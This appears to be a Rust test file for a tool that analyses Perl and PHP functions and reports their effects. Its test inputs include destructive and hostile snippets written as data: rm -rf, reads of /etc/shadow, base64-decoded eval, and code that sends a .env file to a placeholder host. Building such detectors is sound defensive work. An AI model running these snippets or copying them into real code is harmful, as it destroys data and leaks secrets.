//! Functions that the code defines and calls.

use super::check;
use crate::world::Language;

#[test]
fn perl_functions_are_read_with_their_arguments() {
    check(Language::Perl, PERL);
}

const PERL: &[(&str, &str)] = &[
    ("sub f { system(\"rm -rf $_[0]\") } f('/x')", "$ rm -rf /x"),
    ("sub f { my $d = shift; system('rm', '-rf', $d); } f('/x');", "$ rm -rf /x"),
    (
        "sub f { my ($a, $b) = @_; unlink($b); } f('x', '/etc/passwd');",
        "delete remove /etc/passwd certain",
    ),
    (
        "f('/etc'); sub f { my $d = shift; use File::Path; rmtree($d); }",
        "delete remove /etc certain -r",
    ),
    ("use File::Path; sub f { rmtree(shift) } f '/x';", "delete remove /x certain -r"),
    ("use File::Path; sub f { rmtree($_[1]) } &f('a', '/x');", "delete remove /x certain -r"),
    (
        "use File::Path 'remove_tree'; sub g { remove_tree(@_) } sub f { g(@_) } f('/x', '/y');",
        "delete remove /x certain -r | delete remove /y certain -r",
    ),
    (
        "use File::Path; sub g { rmtree($_[0]) } sub f { &g } f('/x');",
        "delete remove /x certain -r",
    ),
    ("sub f { my ($self, $d) = @_; unlink $d } main->f('/x');", "delete remove /x certain"),
    (
        "package A; sub new { bless {}, shift } sub f { my $self = shift; my $d = shift; unlink $d } package main; my $a = A->new; $a->f('/x');",
        "delete remove /x certain",
    ),
    ("package A; sub f { unlink $_[0] } package main; A::f('/x');", "delete remove /x certain"),
    ("my $f = sub { unlink $_[0] }; $f->('/x');", "delete remove /x certain"),
    ("my $f = sub { my $p = shift; unlink $p }; &$f('/x');", "delete remove /x certain"),
    ("sub { unlink shift }->('/x');", "delete remove /x certain"),
    ("my %h = (rm => sub { unlink $_[0] }); $h{rm}->('/x');", "delete remove /x certain"),
    ("sub f { my %o = @_; unlink $o{path} } f(path => '/x');", "delete remove /x certain"),
    (
        "my %d = (path => '/x'); sub f { my %o = @_; unlink $o{path} } f(%d, a => 1);",
        "delete remove /x certain",
    ),
    (
        "my @l = ('/x'); push @l, '/y'; sub f { unlink $_ for @_ } f(@l);",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("sub f { my ($o) = @_; unlink $o->{path} } f({path => '/x'});", "delete remove /x certain"),
    ("sub f { my $d = shift || '/x'; unlink $d } f();", "delete remove /x certain"),
    ("sub f { my $d = shift // '/x'; unlink $d } f;", "delete remove /x certain"),
    (
        "sub f($d, $e = '/y') { unlink $d, $e } f('/x');",
        "delete remove /x certain | delete remove /y certain",
    ),
    (
        "sub f { unlink for @_ } f('/x', '/y');",
        "delete remove /x certain | delete remove /y certain",
    ),
    (
        "sub f { foreach my $p (@_) { unlink $p } } f(qw(/x /y));",
        "delete remove /x certain | delete remove /y certain",
    ),
    (
        "sub f { unlink $_[0] } f($_) for ('/x', '/y');",
        "delete remove /x certain | delete remove /y certain",
    ),
    (
        "sub f { unlink $_[0] } map { f($_) } ('/x', '/y');",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("sub d { return '/x' } unlink d();", "delete remove /x certain"),
    ("sub d { '/x' } unlink(d());", "delete remove /x certain"),
    ("sub d { my $n = shift; \"/$n/y\" } unlink(d('x'));", "delete remove /x/y certain"),
    ("use File::Find; find(sub { unlink $_ }, '/x');", "delete remove /x/** possible"),
    (
        "use File::Find; sub w { unlink $File::Find::name if -f } find(\\&w, '/x');",
        "delete remove /x/** possible",
    ),
    (
        "use File::Find; finddepth({ wanted => sub { unlink }, no_chdir => 1 }, '/x', '/y');",
        "delete remove /x/** possible | delete remove /y/** possible",
    ),
    ("sub f { return `cat $_[0]` } print f('/etc/shadow');", "$ cat /etc/shadow"),
    ("sub f { my $c = shift; return qx{$c} } f('id');", "$ id"),
    ("sub f { exec @_ } f('rm', '-rf', '/x');", "$ rm -rf /x"),
    ("sub f { open(my $p, '-|', @_); <$p> } f('id', '-u');", "$ id -u"),
    ("sub f { open(my $p, \"| $_[0]\"); print $p 'rm -rf /x'; } f('sh');", "$ rm -rf /x"),
    ("sub f { open(my $p, \"| $_[0]\"); print $p $_[1] } f('sh', 'rm -rf /x');", "$ rm -rf /x"),
    ("sub f { open(my $p, '|sh'); print {$p} $_[0] } f('rm -rf /x');", "$ rm -rf /x"),
    (
        "sub w { my ($p, $t) = @_; open(my $h, '>', $p) or die; print $h $t; close $h } w('/etc/hosts', 'x');",
        "overwrite write-file /etc/hosts certain",
    ),
    ("sub f { my $c = shift; eval $c } f('unlink \"/x\"');", "delete remove /x certain"),
    (
        "use HTTP::Tiny; sub up { HTTP::Tiny->new->post($_[0], {content => $_[1]}) } up('http://h', `cat .env`);",
        "$ cat .env | send http http://h certain <[File(\"/shop/.env\")]",
    ),
    (
        "use LWP::UserAgent; sub up { my ($u, $f) = @_; open(my $h, '<', $f); my $ua = LWP::UserAgent->new; $ua->request(HTTP::Request->new('POST', $u, [], <$h>)); } up('http://h', '.env');",
        "read read-file /shop/.env certain | send http http://h certain <[File(\"/shop/.env\")]",
    ),
    (
        "sub f { my @l = @_; push @l, '/y'; unlink @l } f('/x');",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("sub f { my $d = shift; unlink glob(\"$d/*\") } f('/x');", "delete remove /x/* possible"),
    (
        "sub f { my ($d, $n) = @_; return unless $n; unlink $d; } f('/x', 1);",
        "delete remove /x certain",
    ),
    (
        "sub f { my ($d, $n) = @_; if ($n) { unlink $d } else { f('/x', 1) } } f('a', 0);",
        "delete remove /shop/a possible | delete remove /x possible",
    ),
    ("sub f { unlink shift } Foo::each(\\&f);", "delete remove … possible"),
    ("my $d = '/x'; sub f { my $d = 'a'; print $d } f(); unlink $d;", "delete remove /x certain"),
    ("sub f { unlink $_[0] } goto &f;", "delete remove … possible"),
];

#[test]
fn harmless_perl_functions_say_nothing() {
    check(Language::Perl, HARMLESS_PERL);
}

const HARMLESS_PERL: &[(&str, &str)] = &[
    ("sub add { my ($a, $b) = @_; return $a + $b } print add(1, 2);", ""),
    ("sub f { my $d = shift; print \"rm -rf $d\\n\" } f('/');", ""),
    ("sub max { my $m = shift; for (@_) { $m = $_ if $_ > $m } $m } print max(3, 9, 2);", ""),
    ("sub trim { my $s = shift; $s =~ s/^\\s+|\\s+$//g; return $s } print trim(' rm ');", ""),
    ("sub unlink_later { print 'x' } unlink_later('/x');", ""),
    ("my %h; sub count { $h{$_}++ for @_ } count(qw(a b)); print scalar keys %h;", ""),
    ("sub fact { my $n = shift; return $n < 2 ? 1 : $n * fact($n - 1) } print fact(5);", ""),
    ("my @s = sort { $a <=> $b } (3, 1, 2); print \"@s\";", ""),
    ("my @g = grep { /rm/ } ('rm -rf /', 'ls'); print scalar @g;", ""),
    ("my @m = map { uc } qw(a b); print join(',', @m);", ""),
    ("sub fmt { sprintf('%s: %d', @_) } print fmt('unlink', 3);", ""),
    ("use List::Util qw(first sum); print sum(map { $_ * 2 } 1..3);", ""),
    (
        "package P; sub new { my ($c, %a) = @_; bless {%a}, $c } sub name { $_[0]{name} } package main; print P->new(name => 'system')->name;",
        "",
    ),
    ("sub show { my ($t) = @_; print $t } show(\"system('rm -rf /')\");", ""),
    ("my $cb = sub { print shift }; $cb->('unlink');", ""),
    ("local $_ = 'rm -rf /'; s/rm/ls/; print;", ""),
    ("sub clean { my $s = shift; $s =~ tr/a-z//cd; return $s } print clean($ARGV[0]);", ""),
    ("my ($x, $y) = (1, 2); ($x, $y) = ($y, $x); print $x;", "> 2"),
    ("print join ' ', reverse split / /, 'a b c';", ""),
    ("sub compare { return $_[0] cmp $_[1] } print sort { compare($a, $b) } qw(b a);", ""),
    (
        "my %dispatch = (a => \\&one, b => \\&two); sub one { print 1 } sub two { print 2 } $dispatch{a}->();",
        "",
    ),
    ("while (<STDIN>) { chomp; my @f = split /,/; print $f[1] }", ""),
    ("sub is_dir { -d $_[0] } print is_dir('/etc');", ""),
    ("sub f { my $f = shift; return unless defined $f; print length $f } f('/etc/passwd');", ""),
    ("use File::Find; find(sub { print $File::Find::name if /\\.pm$/ }, 'lib');", ""),
    ("use Data::Dumper; sub d { print Dumper(@_) } d({a => 1});", ""),
    ("my $n = () = 'banana' =~ /a/g; print $n;", ""),
    ("sub new_id { our $i ||= 0; return ++$i } print new_id();", ""),
    ("BEGIN { sub early { 1 } } print early() ? 'yes' : 'no';", ""),
    ("my @sorted = sort by_name qw(b a); sub by_name { $a cmp $b } print @sorted;", ""),
    ("print map { sprintf '%02x', ord } split //, 'abc';", ""),
    ("sub path { return join('/', @_) } print path('/etc', 'passwd');", ""),
    ("my $s = do { local $/; <STDIN> }; print length $s;", ""),
    ("sub noop {} noop() for 1..3;", ""),
    ("my ($first) = grep { defined } @ARGV; print $first // 'none';", "> none"),
    (
        "sub dot { my ($p, $q) = @_; my $t = 0; $t += $p->[$_] * $q->[$_] for 0..$#$p; $t } print dot([1,2],[3,4]);",
        "",
    ),
    ("sub usage { die \"usage: rm -rf DIR\\n\" } usage() unless @ARGV;", ""),
    ("my $re = qr/system\\(/; sub has { $_[0] =~ $re } print has('system(1)');", ""),
    (
        "sub wrap { my ($code, @args) = @_; return $code->(@args) } print wrap(sub { $_[0] . 'x' }, 'a');",
        "",
    ),
    ("sub fib { my $n = shift; $n < 2 ? $n : fib($n-1) + fib($n-2) } print fib(10), \"\\n\";", ""),
];

#[test]
fn php_functions_are_read_with_their_arguments() {
    check(Language::Php, PHP);
}

const PHP: &[(&str, &str)] = &[
    ("function f($d) { system(\"rm -rf $d\"); } f('/x');", "$ rm -rf /x"),
    ("f('/x'); function f($d) { unlink($d); }", "delete remove /x certain"),
    ("function f(string $d): void { unlink($d); } f('/x');", "delete remove /x certain"),
    (
        "function f(?string $a, string|array $d = '/x') { unlink($d); } f(null);",
        "delete remove /x certain",
    ),
    ("function f($a, $d = '/y') { unlink($d); } f(1, '/x');", "delete remove /x certain"),
    ("function f($a = 1, $d = '/y') { unlink($d); } f(d: '/x');", "delete remove /x certain"),
    (
        "function f(...$p) { foreach ($p as $x) { unlink($x); } } f('/x', '/y');",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("function f(&$p) { unlink($p); } $q = '/x'; f($q);", "delete remove /x certain"),
    ("$f = function($d) { unlink($d); }; $f('/x');", "delete remove /x certain"),
    (
        "$b = '/x'; $f = function($n) use ($b) { unlink(\"$b/$n\"); }; $f('y');",
        "delete remove /x/y certain",
    ),
    ("$f = fn($d) => unlink($d); $f('/x');", "delete remove /x certain"),
    ("$f = static fn(string $d): bool => unlink($d); $f('/x');", "delete remove /x certain"),
    ("(function($d) { unlink($d); })('/x');", "delete remove /x certain"),
    (
        "array_map(function($f) { unlink($f); }, ['/x', '/y']);",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("array_map(fn($f) => unlink($f), glob('/x/*'));", "delete remove /x/* possible"),
    (
        "$l = ['/x', '/y']; array_walk($l, function($f) { unlink($f); });",
        "delete remove /x certain | delete remove /y certain",
    ),
    ("function rm($f) { unlink($f); } array_map('rm', ['/x']);", "delete remove /x certain"),
    ("function rm($f) { unlink($f); } call_user_func('rm', '/x');", "delete remove /x certain"),
    (
        "function rm($f) { unlink($f); } call_user_func_array('rm', ['/x']);",
        "delete remove /x certain",
    ),
    ("function rm($f) { unlink($f); } $g = 'rm'; $g('/x');", "delete remove /x certain"),
    (
        "class A { public function rm($d) { unlink($d); } } (new A)->rm('/x');",
        "delete remove /x certain",
    ),
    ("class A { static function rm($d) { unlink($d); } } A::rm('/x');", "delete remove /x certain"),
    (
        "class A { function go() { $this->rm('/x'); } private function rm($d) { unlink($d); } } (new A())->go();",
        "delete remove /x certain",
    ),
    (
        "class A { private $d; function go($d) { $this->rm($d); } private function rm($d) { unlink($d); } } (new A)->go('/x');",
        "delete remove /x certain",
    ),
    ("function d() { return '/x'; } unlink(d());", "delete remove /x certain"),
    ("function d($n) { return \"/$n/y\"; } unlink(d('x'));", "delete remove /x/y certain"),
    ("function f() { $a = func_get_args(); unlink($a[0]); } f('/x');", "delete remove /x certain"),
    (
        "function rr($d) { foreach (scandir($d) as $f) { unlink(\"$d/$f\"); } rmdir($d); } rr('/x');",
        "delete remove /x/… possible | delete remove-empty-directory /x certain",
    ),
    (
        "function rr($d) { foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($d)) as $f) { unlink($f->getPathname()); } } rr('/x');",
        "delete remove /x/** possible",
    ),
    (
        "function rr($d) { array_map('unlink', glob(\"$d/*\")); } rr('/x');",
        "delete remove /x/* possible",
    ),
    (
        "function w($p, $t) { file_put_contents($p, $t); } w('/etc/hosts', 'x');",
        "overwrite write-file /etc/hosts certain",
    ),
    (
        "function w($p) { $h = fopen($p, 'w'); fwrite($h, 'x'); fclose($h); } w('/etc/hosts');",
        "overwrite write-file /etc/hosts certain",
    ),
    (
        "function r($p) { return file_get_contents($p); } echo r('/etc/shadow');",
        "read read-file /etc/shadow certain",
    ),
    ("function sh($c) { return shell_exec($c); } echo sh('id');", "$ id"),
    ("function sh($c) { passthru($c . ' 2>&1'); } sh('rm -rf /x');", "$ rm -rf /x"),
    ("function sh($c) { $p = proc_open($c, [], $pipes); } sh('rm -rf /x');", "$ rm -rf /x"),
    ("function sh($c) { return `$c`; } sh('id');", "$ id"),
    ("function ev($c) { eval($c); } ev('unlink(\"/x\");');", "delete remove /x certain"),
    (
        "function ev($c) { eval(base64_decode($c)); } ev('dW5saW5rKCcveCcpOw==');",
        "delete remove /x certain | execute decoded-code  certain <[Decoded]",
    ),
    (
        "function up($u, $d) { $c = curl_init($u); curl_setopt($c, CURLOPT_POSTFIELDS, $d); curl_exec($c); } up('http://h', file_get_contents('.env'));",
        "read read-file /shop/.env certain | receive http http://h certain | send http http://h certain <[File(\"/shop/.env\")]",
    ),
    (
        "function up($u, $d) { $c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => $u, CURLOPT_POSTFIELDS => $d]); curl_exec($c); } up('http://h', file_get_contents('.env'));",
        "read read-file /shop/.env certain | receive http http://h certain | send http http://h certain <[File(\"/shop/.env\")]",
    ),
    (
        "function up($u, $d) { file_get_contents($u, false, stream_context_create(['http' => ['method' => 'POST', 'content' => $d]])); } up('http://h', file_get_contents('.env'));",
        "read read-file /shop/.env certain | send http http://h certain <[File(\"/shop/.env\")]",
    ),
    ("function c($p) { chmod($p, 0777); } c('/x');", "permission world-writable /x certain"),
    (
        "function m($a, $b) { rename($a, $b); } m('/x', '/y');",
        "move move /x certain | write move /y certain <[File(\"/x\")]",
    ),
    (
        "function f($d, $n) { if ($n) { unlink($d); } else { f('/x', 1); } } f('a', 0);",
        "delete remove /shop/a possible | delete remove /x possible",
    ),
    ("function f($d) { unlink($d); } register_shutdown_function('f');", "delete remove d possible"),
    ("[$a, $b] = ['x', '/y']; unlink($b);", "delete remove /y certain"),
    ("list($a, $b) = ['x', '/y']; unlink($b);", "delete remove /y certain"),
    ("$d = '/x'; function f() { $d = 'a'; echo $d; } f(); unlink($d);", "delete remove /x certain"),
    (
        "if (!function_exists('f')) { function f($d) { unlink($d); } } f('/x');",
        "delete remove /x certain",
    ),
];

#[test]
fn harmless_php_functions_say_nothing() {
    check(Language::Php, HARMLESS_PHP);
}

const HARMLESS_PHP: &[(&str, &str)] = &[
    ("function add($a, $b) { return $a + $b; } echo add(1, 2);", ""),
    ("function show($c) { echo \"rm -rf $c\"; } show('/');", ""),
    ("function unlinkLater($x) { echo $x; } unlinkLater('/x');", ""),
    ("$f = fn($x) => $x * 2; echo $f(4);", ""),
    ("echo implode(',', array_map(fn($x) => strtoupper($x), ['a', 'b']));", ""),
    ("usort($a, function($x, $y) { return $x <=> $y; }); print_r($a);", ""),
    ("echo array_sum(array_filter([1, 2, 3], fn($n) => $n > 1));", ""),
    (
        "class P { public function __construct(private string $n) {} public function name(): string { return $this->n; } } echo (new P('system'))->name();",
        "",
    ),
    ("function fact(int $n): int { return $n < 2 ? 1 : $n * fact($n - 1); } echo fact(5);", ""),
    (
        "function slug(string $s): string { return strtolower(trim(preg_replace('/[^a-z]+/i', '-', $s), '-')); } echo slug('rm -rf /');",
        "",
    ),
    ("function greet($n = 'you') { return \"hi $n\"; } echo greet();", ""),
    ("echo (function() { return 'unlink(1)'; })();", ""),
    ("interface A { public function rm($d); } echo 'x';", ""),
    ("function log_line($m) { error_log($m); } log_line('system(1)');", ""),
    (
        "function pick(array $a, $k, $d = null) { return $a[$k] ?? $d; } echo pick(['a' => 1], 'a');",
        "",
    ),
    (
        "$compose = fn(callable $f, callable $g) => fn($x) => $f($g($x)); echo $compose('strtolower', 'trim')(' A ');",
        "",
    ),
    ("function gen() { yield 1; yield 2; } foreach (gen() as $v) { echo $v; }", ""),
    (
        "function is_safe($p) { return !str_contains($p, '..'); } var_dump(is_safe('/etc/passwd'));",
        "",
    ),
    ("echo json_encode(['unlink' => '/x', 'system' => 'rm -rf /']);", ""),
    ("function h($s) { return htmlspecialchars($s); } echo h('<b>exec</b>');", ""),
    (
        "abstract class S { abstract function area(); static function make() { return 1; } } echo S::make();",
        "",
    ),
    ("function counter() { static $n = 0; return ++$n; } echo counter();", ""),
    ("function swap(&$a, &$b) { [$a, $b] = [$b, $a]; } $x = 1; $y = 2; swap($x, $y); echo $x;", ""),
    (
        "$mul = function($a) { return function($b) use ($a) { return $a * $b; }; }; echo $mul(2)(3);",
        "",
    ),
    (
        "function parse($l) { return array_map('trim', explode(',', $l)); } print_r(parse('a, b'));",
        "",
    ),
    ("function fib($n) { return $n < 2 ? $n : fib($n - 1) + fib($n - 2); } echo fib(10);", ""),
    ("function total(int ...$n): int { return array_sum($n); } echo total(1, 2, 3);", ""),
    ("echo str_repeat('rm ', 3); function x() {}", ""),
    ("trait T { function hi() { echo 'hi'; } } class U { use T; } (new U)->hi();", ""),
    ("function m($s) { return preg_match('/^unlink\\(/', $s); } var_dump(m('unlink(1)'));", ""),
    (
        "enum E: string { case A = 'rm -rf /'; public static function d(): self { return self::A; } } echo E::d()->value;",
        "",
    ),
    ("$a = ['f' => fn() => 'system']; echo $a['f']();", ""),
    ("function f(array $o = []) { $o += ['path' => '/etc']; return $o['path']; } echo f();", ""),
    ("function t($c) { return $c ? 'exec' : 'none'; } echo t(true);", ""),
    ("spl_autoload_register(function ($c) { echo $c; }); echo 1;", ""),
    ("function q($s) { return escapeshellarg($s); } echo q('rm -rf /');", ""),
    ("namespace App; function f($x) { return $x; } echo f('unlink');", ""),
    ("echo date('Y-m-d'); function later() { return strtotime('+1 day'); } echo later();", ""),
    (
        "function walk($n, callable $cb) { foreach ($n as $x) { $cb($x); } } walk([1, 2], function($x) { echo $x; });",
        "",
    ),
    ("match (true) { default => print('rm') }; function z(): never { exit(0); }", ""),
];
